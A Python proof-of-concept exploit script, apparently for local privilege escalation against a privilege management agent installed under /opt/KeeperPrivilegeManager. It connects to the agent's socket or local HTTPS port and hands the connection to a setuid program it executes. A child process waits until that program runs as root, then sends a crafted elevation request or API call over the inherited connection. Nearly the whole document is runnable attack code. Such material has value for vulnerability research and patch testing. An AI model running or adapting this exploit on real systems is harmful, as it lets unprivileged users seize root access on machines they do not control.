"""connect, then become a setuid program, which inherits the connection.

attack.py TARGET PROGRAM...: this process connects to the agent's door, to its
API's socket or to its HTTPS port, and executes PROGRAM, which waits at standard
input. A child says "ready" when that has happened, asks on the connection, and
prints what it hears. Without PROGRAM nobody executes anything.
"""
import array, json, os, socket, ssl, struct, sys

root = "/opt/KeeperPrivilegeManager"
target, program = sys.argv[1], sys.argv[2:]


def connect():
    if target == "https":
        with open(root + "/run/ports.json") as f:
            return socket.create_connection(("127.0.0.1", json.load(f)["https"]))
    conn = socket.socket(socket.AF_UNIX)
    conn.connect(root + "/run/" + target + ".sock")
    return conn


def elevation(conn):
    def text(s):
        return struct.pack(">I", len(s)) + s.encode()

    argv = ["id", "-u"]
    body = bytes([3, 0, 0, 0]) + struct.pack(">HH", 0, 0) + text("id") + text("")
    body += struct.pack(">I", len(argv)) + b"".join(map(text, argv)) + struct.pack(">I", 0)
    files = array.array("i", [os.open("/", os.O_PATH), 0, 1, 2])
    conn.sendmsg([struct.pack(">BI", 1, len(body)) + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    stream = conn.makefile("rb")
    while head := stream.read(5):
        kind, length = struct.unpack(">BI", head)
        body = stream.read(length)
        if kind in (6, 7):
            return {6: "exit", 7: "refused"}[kind] + " " + body.decode(errors="replace")
    return "closed"


def api(conn):
    if target == "https":
        context = ssl.create_default_context(cafile=root + "/run/ca.pem")
        conn = context.wrap_socket(conn, server_hostname="127.0.0.1")
    conn.sendall(b"GET /api/plugins HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    return conn.makefile("rb").readline().decode().strip()


def effective(pid):
    with open(f"/proc/{pid}/status") as f:
        return next(line.split()[2] for line in f if line.startswith("Uid:"))


conn = connect()
conn.set_inheritable(True)
parent = os.getpid()
if os.fork():
    if program:
        os.execv(program[0], program)
    os.wait()
else:
    while program and effective(parent) != "0":
        pass
    print("ready", flush=True)
    print(elevation(conn) if target == "door" else api(conn), flush=True)
